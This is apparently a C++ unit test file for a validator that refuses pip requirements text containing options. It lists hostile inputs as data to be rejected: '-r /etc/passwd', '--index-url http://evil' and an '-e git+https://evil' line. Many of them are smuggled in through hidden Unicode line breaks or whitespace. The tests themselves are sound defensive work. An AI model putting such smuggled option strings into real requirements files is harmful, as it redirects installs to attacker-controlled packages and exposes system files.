// CheckPipRequirements: what pip would read as an option, on any line pip would see, is refused.
#include "core/pip_requirements.h"

#include <gtest/gtest.h>

namespace tamga {
namespace {

TEST(PipRequirements, SpecifiersAndCommentsPass) {
  EXPECT_TRUE(CheckPipRequirements("").ok());
  EXPECT_TRUE(
      CheckPipRequirements("numpy==1.26.4\n# a comment -r x\nscikit-learn>=1.4 ; python_version > '3.8'\n")
          .ok());
  EXPECT_TRUE(CheckPipRequirements("pkg @ https://example.com/pkg-1.0-py3-none-any.whl\r\n").ok());
  EXPECT_TRUE(CheckPipRequirements("torch==2.1  # pinned -- see notes\n").ok());
  EXPECT_TRUE(CheckPipRequirements("numpy==1.26.4 --hash=sha256:abc123\n").ok());
}

TEST(PipRequirements, OptionsAndHiddenLineBreaksAreRefused) {
  const char* bad[] = {
      "-r /etc/passwd\n",
      "  --index-url http://evil/simple\n",
      "numpy --global-option=--x\n",
      "numpy\f--index-url http://evil\n",
      "numpy\v--index-url http://evil\n",
      "numpy\x1c--index-url http://evil\n",
      "numpy\xc2\x85--index-url http://evil\n",      // U+0085
      "numpy\xe2\x80\xa8--index-url http://evil\n",  // U+2028
      "numpy\xe2\x80\xa9--index-url http://evil\n",  // U+2029
      "\xef\xbb\xbf--index-url http://evil\n",       // BOM
      "numpy\r--index-url http://evil\n",
      "\xc2\xa0--index-url http://evil\n",    // U+00A0: pip strips it, then sees the option
      "\xe3\x80\x80-r /etc/passwd\n",         // U+3000
      "\xe2\x80\x83-e git+https://evil/x\n",  // U+2003
      "\xff\xfe numpy\n",                     // not even UTF-8
      "--hash=sha256:abc\n",                  // an option on its own line
  };
  for (const char* text : bad) EXPECT_FALSE(CheckPipRequirements(text).ok()) << text;
  EXPECT_FALSE(CheckPipRequirements(std::string("numpy\0x\n", 8)).ok());
}

}  // namespace
}  // namespace tamga
